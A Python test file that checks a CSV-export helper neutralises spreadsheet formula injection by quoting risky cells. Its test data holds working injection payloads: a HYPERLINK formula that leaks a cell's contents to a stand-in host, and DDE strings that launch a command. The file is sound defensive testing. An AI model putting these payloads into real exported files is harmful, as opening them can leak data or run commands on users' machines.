"""Every CSV cell a spreadsheet would run as a formula is neutralised (issue 13, item 7)."""

import csv
import io

import pandas as pd
import pytest

from autodiag.csv_safe import FORMULA_STARTS, SafeDictWriter, frame_csv, rows_csv, safe_cell

ATTACKS = {
    "=": '=HYPERLINK("http://x.example/?d="&A1,"clic")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_every_formula_start_has_a_case():
    assert set(ATTACKS) == set(FORMULA_STARTS)


@pytest.mark.parametrize("start", sorted(ATTACKS), ids=repr)
def test_cell_starting_with_a_formula_character_is_prefixed(start):
    text = ATTACKS[start]
    assert text[0] == start
    assert safe_cell(text) == "'" + text, f"a cell starting with {start!r} must not be read as a formula"


@pytest.mark.parametrize("start", sorted(ATTACKS), ids=repr)
def test_dict_writer_neutralises_the_cell_and_keeps_numbers(start):
    out = io.StringIO()
    writer = SafeDictWriter(out, fieldnames=["etiqueta", "puntaje"])
    writer.writeheader()
    writer.writerow({"etiqueta": ATTACKS[start], "puntaje": -3.5})
    assert _read(out.getvalue()) == [["etiqueta", "puntaje"], ["'" + ATTACKS[start], "-3.5"]], \
        "one row, the text neutralised, the negative number left a number"


@pytest.mark.parametrize("start", sorted(ATTACKS), ids=repr)
def test_rows_and_frames_neutralise_headers_and_cells(start):
    assert _read(rows_csv([ATTACKS[start]], [[ATTACKS[start]]])) == [["'" + ATTACKS[start]]] * 2
    frame = pd.DataFrame({ATTACKS[start]: [ATTACKS[start], "ok"], "n": [-1, 2]})
    assert _read(frame_csv(frame)) == [["'" + ATTACKS[start], "n"], ["'" + ATTACKS[start], "-1"], ["ok", "2"]]


def test_a_carriage_return_inside_a_cell_cannot_split_the_row():
    text = rows_csv(["a", "b"], [["x\r=1+1", 2]])
    assert _read(text) == [["a", "b"], ["x\r=1+1", "2"]]


def test_frame_missing_values_are_empty_cells():
    assert _read(frame_csv(pd.DataFrame({"a": [1.0, None], "b": ["x", None]}))) == [["a", "b"], ["1.0", "x"], ["", ""]]


@pytest.mark.parametrize("text", ["Cabildo abierto", "", "a=b", "1-2", "'ya citado", "Ñuñoa"])
def test_ordinary_text_is_left_alone(text):
    assert safe_cell(text) == text
